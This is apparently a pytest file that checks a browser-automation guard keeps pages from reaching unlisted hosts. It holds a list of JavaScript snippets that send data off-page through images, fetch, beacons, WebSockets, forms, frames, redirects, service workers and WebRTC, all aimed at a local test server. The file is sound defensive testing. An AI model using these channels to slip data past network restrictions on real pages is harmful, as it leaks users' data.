"""A page may try what it likes: nothing of it arrives at a host that the profile does not name."""

from __future__ import annotations

import asyncio
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest
from door import PASSWORD, USER, Door, door_profile, opened

import bots.portal.session
from billing.ledger import open_ledger
from bots.portal.browser import Browser, launch_options
from bots.portal.guard import Guard
from bots.portal.session import PortalSession
from flows.login_book import AccountBook

SECRETS = {"username": USER, "password": PASSWORD}
TRIES_SECONDS = 15


class Elsewhere:
    """Another host that answers everything and counts it, by TCP connection and by datagram."""

    def __init__(self) -> None:
        self.address = ""
        self.port = 0
        self.arrived: list[str] = []


@contextmanager
def elsewhere() -> Iterator[Elsewhere]:
    """The other host, answering."""
    there = Elsewhere()

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            there.arrived.append(f"{self.command} {self.path}")
            self.send_response(200)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.send_header("Content-Length", "2")
            self.end_headers()
            self.wfile.write(b"ok")

        do_POST = do_OPTIONS = do_CONNECT = do_GET

        def log_message(self, *_: object) -> None:
            return

    class Server(ThreadingHTTPServer):
        daemon_threads = True

        def process_request(self, request: object, client_address: object) -> None:
            there.arrived.append("a connection")
            super().process_request(request, client_address)

    server = Server(("127.0.0.1", 0), Handler)
    there.port = server.server_address[1]
    there.address = f"http://127.0.0.1:{there.port}"
    datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    datagrams.bind(("127.0.0.1", there.port))
    datagrams.settimeout(0.2)
    over = threading.Event()

    def listen() -> None:
        while not over.is_set():
            try:
                datagrams.recv(2048)
            except TimeoutError:
                continue
            there.arrived.append("a datagram")

    threading.Thread(target=server.serve_forever, daemon=True).start()
    listener = threading.Thread(target=listen, daemon=True)
    listener.start()
    try:
        yield there
    finally:
        over.set()
        listener.join(5)
        datagrams.close()
        server.shutdown()
        server.server_close()


# each leaves done() called when the page has tried; what it tried must not have arrived
WAYS = {
    "img": "const i = new Image(); i.onerror = i.onload = done; i.src = OTHER + '/img';",
    "prefetch": (
        "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = OTHER + '/pre';"
        "document.head.append(l); setTimeout(done, 1500);"
    ),
    "preconnect": (
        "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = OTHER;"
        "document.head.append(l); setTimeout(done, 1500);"
    ),
    "fetch": "fetch(OTHER + '/fetch', {method: 'POST', body: 'x'}).then(done, done);",
    "beacon": "navigator.sendBeacon(OTHER + '/beacon', 'x'); setTimeout(done, 1500);",
    "script": (
        "const s = document.createElement('script'); s.onerror = s.onload = done;"
        "s.src = OTHER + '/script.js'; document.head.append(s);"
    ),
    "worker": (
        "const w = new Worker(URL.createObjectURL(new Blob([`fetch('${OTHER}/worker')"
        ".then(() => postMessage(1), () => postMessage(1))`]))); w.onmessage = done;"
    ),
    "socket": (
        "const w = new WebSocket(OTHER.replace('http', 'ws') + '/socket');"
        "w.onopen = w.onerror = w.onclose = done;"
    ),
    "events": "const e = new EventSource(OTHER + '/events'); e.onerror = e.onopen = done;",
    "pop-up": "window.open(OTHER + '/popup'); setTimeout(done, 1500);",
    "form": (
        "const f = document.createElement('form'); f.method = 'post'; f.target = '_blank';"
        "f.action = OTHER + '/form'; document.body.append(f); f.submit(); setTimeout(done, 1500);"
    ),
    "frame": (
        "const f = document.createElement('iframe'); f.src = OTHER + '/frame';"
        "document.body.append(f); setTimeout(done, 1500);"
    ),
    "redirect 302": "fetch('/away/302').then(done, done);",
    "redirect 307": "fetch('/away/307', {method: 'POST', body: 'x'}).then(done, done);",
    "redirected img": "const i = new Image(); i.onerror = i.onload = done; i.src = '/away/302';",
    "redirected pop-up": "window.open('/away/302'); setTimeout(done, 1500);",
    "service worker": (
        "(navigator.serviceWorker ? navigator.serviceWorker.register('/away/worker.js')"
        " : Promise.reject()).then(() => setTimeout(done, 1500), done);"
    ),
    "peer": (
        "const p = new RTCPeerConnection({iceServers: [{urls: 'stun:127.0.0.1:' + PORT}]});"
        "p.createDataChannel('x'); p.createOffer().then(o => p.setLocalDescription(o));"
        "setTimeout(done, 2500);"
    ),
}
# no request of the page is made for them, or none by a tab that nobody wanted
UNRECORDED = {"preconnect", "peer", "service worker", "redirected pop-up"}


UNPINNED = ("img", "fetch", "socket", "frame", "redirected img", "peer")
"""What the control tries, quick ones of each kind."""


@dataclass
class Tried:
    """What came of each way: what the guard recorded, and what arrived at the other host."""

    door: Door
    there: Elsewhere
    recorded: dict[str, list[str]] = field(default_factory=dict)
    arrived: dict[str, list[str]] = field(default_factory=dict)

    async def try_way(self, session: PortalSession, name: str, *, guarded: bool) -> None:
        """Open a page inside and let it try."""
        page = session.guard.tab = await session.context.new_page()
        await page.goto(f"{self.door.address}/inside")
        session.guard.refused.clear()
        self.there.arrived.clear()
        other = f"'{self.there.address}'"
        body = WAYS[name].replace("OTHER", other).replace("PORT", str(self.there.port))
        body = body.replace(f"${{{other}}}", self.there.address)
        async with asyncio.timeout(TRIES_SECONDS):
            await page.evaluate(f"() => new Promise(done => {{ {body} }})")
            # the browser tells of it a moment after the page was told
            while guarded and not session.guard.refused and name not in UNRECORDED:
                await asyncio.sleep(0.05)
        self.note(session, name)
        await page.close()

    def note(self, session: PortalSession, name: str) -> None:
        """Keep what was seen until now."""
        self.recorded[name] = list(session.guard.refused)
        self.arrived[name] = list(self.there.arrived)


def inside(door: Door, browser: Browser, home: Path) -> PortalSession:
    book = AccountBook(open_ledger(home), "acme", 3)
    profile = door_profile(may_post=["/", "/away/307"])
    return PortalSession(profile, door.address, browser, SECRETS.__getitem__, book)


@pytest.mark.browser
def test_nothing_of_a_page_arrives_at_another_host_and_what_is_asked_is_recorded(
    browser_executable: Browser, tmp_path: Path
) -> None:
    door = Door()

    async def try_all(tried: Tried) -> None:
        async with inside(door, browser_executable, tmp_path) as session:
            for name in WAYS:
                await tried.try_way(session, name, guarded=True)
            page = session.guard.tab = await session.context.new_page()
            session.guard.refused.clear()
            tried.there.arrived.clear()
            with pytest.raises(Exception, match="net::ERR"):
                await page.goto(f"{door.address}/away/302")
            tried.note(session, "navigation")

    with elsewhere() as there, opened(door):
        door.away = there.address
        tried = Tried(door, there)
        asyncio.run(try_all(tried))
    assert {name: what for name, what in tried.arrived.items() if what} == {}
    assert {name for name, what in tried.recorded.items() if not what} <= UNRECORDED


@pytest.mark.browser
def test_without_the_pin_and_the_guard_it_arrives(
    browser_executable: Browser, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    door = Door()

    def unpinned(*of: Any) -> dict[str, Any]:
        options = launch_options(*of)
        dropped = ("--proxy-", "--force-webrtc")
        options["args"] = [one for one in options["args"] if not one.startswith(dropped)]
        return options

    async def look_away(*_: object) -> None:
        return

    async def try_some(tried: Tried) -> None:
        async with inside(door, browser_executable, tmp_path) as session:
            for name in UNPINNED:
                await tried.try_way(session, name, guarded=False)

    monkeypatch.setattr(bots.portal.session, "launch_options", unpinned)
    monkeypatch.setattr(Guard, "stand", look_away)
    with elsewhere() as there, opened(door):
        door.away = there.address
        tried = Tried(door, there)
        asyncio.run(try_some(tried))
    assert [name for name in UNPINNED if not tried.arrived[name]] == []
